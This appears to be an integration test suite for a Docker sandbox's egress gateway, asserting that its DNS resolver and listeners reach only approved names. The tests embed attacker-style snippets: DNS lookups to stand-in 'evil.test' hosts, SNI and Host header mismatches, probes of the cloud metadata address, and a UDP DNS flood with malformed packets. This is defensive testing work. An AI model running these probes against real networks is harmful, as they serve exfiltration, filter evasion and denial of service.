/** Family 22 and 21: the resolver and the listeners of a sandbox lead to the gateway, for approved names, and nowhere else. */
import Docker from 'dockerode'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { DockerSandbox } from '../../src/sandbox/runner/docker/docker-sandbox.ts'
import { dockerOrSkip } from '../support/docker.ts'
import { type EgressUpstream, PUBLIC_ADDRESS, startEgressUpstream } from '../support/egress-upstream.ts'
import { createGatewayKit, type GatewayKit } from '../support/gateway-kit.ts'
import { runIn } from '../support/sandbox-run.ts'

const available = await dockerOrSkip({ images: ['deno', 'node', 'python'] })
const APPROVED = 'api.demo.test'

/** What attacking code has at hand in Node: `tell` a result, `get` with TLS of any name to any address. */
const PRELUDE = `
import { lookup, Resolver } from 'node:dns/promises'
import { createSocket } from 'node:dgram'
import https from 'node:https'
import net from 'node:net'
const report = {}
const tell = async (name, work) => { report[name] = await work().catch((error) => error.code ?? error.message) }
const ruleOf = (text) => /"rule":"([a-z_]+)"/.exec(text)?.[1] ?? text
const get = (options) => new Promise((done, failed) => https.get({ agent: false, rejectUnauthorized: false, path: '/', ...options }, (answer) => {
  let text = ''
  answer.on('data', (chunk) => { text += chunk }).on('end', () => done(ruleOf(text)))
}).on('error', failed))
process.on('exit', () => console.log(JSON.stringify(report)))
`

describe.skipIf(!available.available)(`the way out of a sandbox ${available.reason}`, () => {
  let upstream: EgressUpstream
  let gateway: GatewayKit
  let sandbox: DockerSandbox
  let network: readonly string[]

  beforeAll(async () => {
    upstream = await startEgressUpstream([APPROVED, 'a.wild.demo.test'])
    gateway = await createGatewayKit({
      resolve: async () => [PUBLIC_ADDRESS],
      isPublic: (address) => address === PUBLIC_ADDRESS,
      tls: { ca: upstream.ca },
    })
    sandbox = new DockerSandbox({
      docker: new Docker(),
      instanceId: `way-out-${process.pid}`,
      poolSize: 0,
      endpoints: gateway.gateway,
    })
    network = [`${APPROVED}:${upstream.port}`, `*.wild.demo.test:${upstream.port}`]
  })
  afterAll(async () => {
    await sandbox?.[Symbol.asyncDispose]()
    await gateway?.[Symbol.asyncDispose]()
    await upstream?.[Symbol.asyncDispose]()
  })

  async function attack(code: string, given: Record<string, number> = {}) {
    const { session, events } = await gateway.run(network)
    const constants = Object.entries({ PORT: upstream.port, ...given }).map(
      ([name, value]) => `const ${name} = ${value}\n`,
    )
    const run = await runIn(sandbox, `${PRELUDE}${constants.join('')}${code}`, {
      runtime: 'node',
      network,
      egress: session,
    })
    expect(run.stderr).toBe('')
    const report = JSON.parse(run.stdout.trim().split('\n').at(-1) ?? '{}') as Record<string, unknown>
    return { report, summary: session.end(), events: await events() }
  }

  it('answers approved names with loopback and no other name, and tells of the others once each', async () => {
    const { report, summary, events } = await attack(`
      const resolver = new Resolver()
      for (const name of ['${APPROVED}', 'API.DEMO.TEST', 'a.wild.demo.test', 'b.a.wild.demo.test'])
        await tell(name, async () => (await lookup(name)).address)
      for (const name of ['wild.demo.test', 'demo.test', 'x.${APPROVED}', '${APPROVED}.evil.test', 'secret.evil.test', 'secret.evil.test'])
        await tell(name, () => lookup(name))
      for (const type of ['TXT', 'MX', 'NS', 'CNAME', 'SRV', 'AAAA'])
        await tell(type, () => resolver.resolve('data.evil.test', type))
      await tell('text of an approved name', () => resolver.resolve('${APPROVED}', 'TXT'))
      await tell('reverse', () => resolver.reverse('127.64.0.1'))`)
    const address = report[APPROVED]
    expect(address).toMatch(/^127\.64\./)
    expect(report['API.DEMO.TEST']).toBe(address)
    const wild = [report['a.wild.demo.test'], report['b.a.wild.demo.test']]
    for (const one of wild) expect(one).toMatch(/^127\.64\./)
    expect(new Set([address, ...wild]).size).toBe(3)
    for (const name of ['wild.demo.test', 'demo.test', `x.${APPROVED}`, `${APPROVED}.evil.test`])
      expect(report[name]).toBe('ENOTFOUND')
    for (const type of ['TXT', 'MX', 'NS', 'CNAME', 'SRV', 'AAAA', 'reverse'])
      expect(report[type]).toBe('ENOTFOUND')
    expect(report['text of an approved name']).toBe('ENODATA')
    expect(summary.refused.map(({ rule, origin, count }) => [rule, origin, count])).toEqual(
      [
        'wild.demo.test',
        'demo.test',
        `x.${APPROVED}`,
        `${APPROVED}.evil.test`,
        'secret.evil.test',
        'data.evil.test',
      ].map((name) => ['host_not_approved', `https://${name}`, 1]),
    )
    expect(events.every(({ data }) => data.method === 'DNS')).toBe(true)
  })

  it("answers the machine's own name, which libraries look up unasked, with nothing to report", async () => {
    const { report, summary } = await attack(`
      await tell('own', async () => (await lookup((await import('node:os')).hostname())).address)`)
    expect(report).toEqual({ own: '127.0.0.1' })
    expect(summary.refused).toEqual([])
  })

  it('compares the name that was meant with the one of the handshake and of the request', async () => {
    const before = upstream.connections
    const { report, summary } = await attack(`
      const { address } = await lookup('${APPROVED}')
      const other = (await lookup('a.wild.demo.test')).address
      await tell('another name in the handshake', () => get({ host: '${APPROVED}', port: PORT, servername: 'a.wild.demo.test' }))
      await tell('a name that was not approved', () => get({ host: '${APPROVED}', port: PORT, servername: 'evil.test' }))
      await tell('no name', () => get({ host: address, port: PORT, headers: { host: '${APPROVED}:' + PORT }, servername: '' }))
      await tell('another Host', () => get({ host: '${APPROVED}', port: PORT, headers: { host: 'a.wild.demo.test:' + PORT } }))
      await tell('the address of another name', () => get({ host: other, port: PORT, servername: '${APPROVED}', headers: { host: '${APPROVED}:' + PORT } }))`)
    for (const rule of Object.values(report)) expect(rule).toBe('host_mismatch')
    expect(Object.keys(report)).toHaveLength(5)
    expect(summary.refused.every(({ rule }) => rule === 'host_mismatch')).toBe(true)
    expect(upstream.connections).toBe(before)
  })

  it('leads to no address and no port that was not approved', async () => {
    const before = upstream.connections
    const { report } = await attack(
      `
      await tell('443', () => get({ host: '${APPROVED}', port: 443 }))
      await tell('another port', () => get({ host: '${APPROVED}', port: 8443 }))
      await tell('port of the daemon', () => get({ host: '${APPROVED}', port: DAEMON }))
      await tell('an address without a name', () => get({ host: '127.64.200.1', port: PORT }))
      await tell('an address that plays the upstream', () => get({ host: '${PUBLIC_ADDRESS}', port: PORT }))
      await tell('loopback', () => get({ host: '127.0.0.1', port: PORT }))
      await tell('a public address', () => get({ host: '1.1.1.1', port: 443 }))
      await tell('metadata', () => get({ host: '169.254.169.254', port: 443 }))
      await tell('resolver elsewhere', async () => {
        const resolver = new Resolver({ timeout: 500, tries: 1 })
        resolver.setServers(['8.8.8.8'])
        return await resolver.resolve4('${APPROVED}')
      })`,
      { DAEMON: 3737 },
    )
    expect(report).toMatchObject({
      '443': 'host_not_approved',
      'another port': 'ECONNREFUSED',
      'port of the daemon': 'ECONNREFUSED',
      'an address without a name': 'host_not_approved',
      'an address that plays the upstream': 'host_not_approved',
      loopback: 'host_not_approved',
      'a public address': 'ENETUNREACH',
      metadata: 'ENETUNREACH',
    })
    expect(report['resolver elsewhere']).not.toEqual(expect.arrayContaining([expect.any(String)]))
    expect(upstream.connections).toBe(before)
    expect(upstream.trapped).toEqual([])
  })

  it('is flooded with queries and names without harm to others, to its own run or to the audit', async () => {
    const up = Promise.withResolvers<void>()
    const { session, events } = await gateway.run(network)
    const flood = runIn(
      sandbox,
      `${PRELUDE}
      const query = (name) => Buffer.concat([Buffer.from('12340100000100000000000000'.slice(0, 24), 'hex'),
        ...name.split('.').flatMap((label) => [Buffer.from([label.length]), Buffer.from(label)]), Buffer.from([0, 0, 1, 0, 1])])
      const socket = createSocket('udp4')
      let answers = 0
      socket.on('message', () => { answers += 1 })
      const wait = (ms) => new Promise((done) => setTimeout(done, ms))
      for (let i = 0; i < 20_000; i++) {
        socket.send(query('n' + i + (i % 2 ? '.evil.test' : '.wild.demo.test')), 53, '127.0.0.1')
        if (i % 100 === 0) await wait(1)
        if (i === 1_000) console.log('flooding')
      }
      // Garbage, over both transports.
      for (const bytes of ['', '00', 'ffffffff', '12348100000100000000000000', '123401000001000000000000c00c00010001'])
        socket.send(Buffer.from(bytes, 'hex'), 53, '127.0.0.1')
      const line = net.connect(53, '127.0.0.1')
      await new Promise((done) => line.on('close', done).on('error', done).write(Buffer.from('ffff' + '00'.repeat(64), 'hex')))
      for (;;) {
        const found = await lookup('${APPROVED}').then(({ address }) => address, () => '')
        if (found !== '') break
      }
      report.answered = answers > 0
      report.reached = await get({ host: '${APPROVED}', port: ${upstream.port} })
      socket.close()
      process.exit(0)`,
      {
        runtime: 'node',
        network,
        egress: session,
        limits: { timeoutMs: 60_000 },
        onOutput: () => up.resolve(),
      },
    )
    await up.promise
    const other = await attack(
      `await tell('other', () => get({ host: '${APPROVED}', port: PORT, rejectUnauthorized: true }))`,
    )
    expect(other.report.other).toBe('hello from upstream')
    const { stdout } = await flood
    expect(JSON.parse(stdout.trim().split('\n').at(-1) ?? '')).toEqual({
      answered: true,
      reached: 'hello from upstream',
    })
    expect((await events()).length).toBeLessThan(100)
  })

  it('is in no other container: each has listeners of its own, and a run that was let out nowhere has none that lead out', async () => {
    const listening = Promise.withResolvers<void>()
    const { session } = await gateway.run(network)
    const first = runIn(
      sandbox,
      `${PRELUDE}
      await tell('own', () => get({ host: '${APPROVED}', port: ${upstream.port} }))
      console.log('listening')
      await new Promise((done) => setTimeout(done, 3_000))
      process.exit(0)`,
      { runtime: 'node', network, egress: session, onOutput: () => listening.resolve() },
    )
    await listening.promise
    const code = `${PRELUDE}
      await tell('name', () => lookup('${APPROVED}'))
      await tell('address of the other', () => get({ host: '127.64.0.1', port: ${upstream.port} }))
      await tell('443', () => get({ host: '127.64.0.1', port: 443 }))
      process.exit(0)`
    const second = await runIn(sandbox, code, { runtime: 'node' })
    const report = JSON.parse(second.stdout.trim().split('\n').at(-1) ?? '') as Record<string, unknown>
    expect(report['address of the other']).toBe('ECONNREFUSED')
    expect(report['443']).toBe('no_run')
    expect(['ENOTFOUND', 'EAI_AGAIN']).toContain(report.name)
    expect(JSON.parse((await first).stdout.trim().split('\n').at(-1) ?? '')).toEqual({
      own: 'hello from upstream',
    })
  })
})
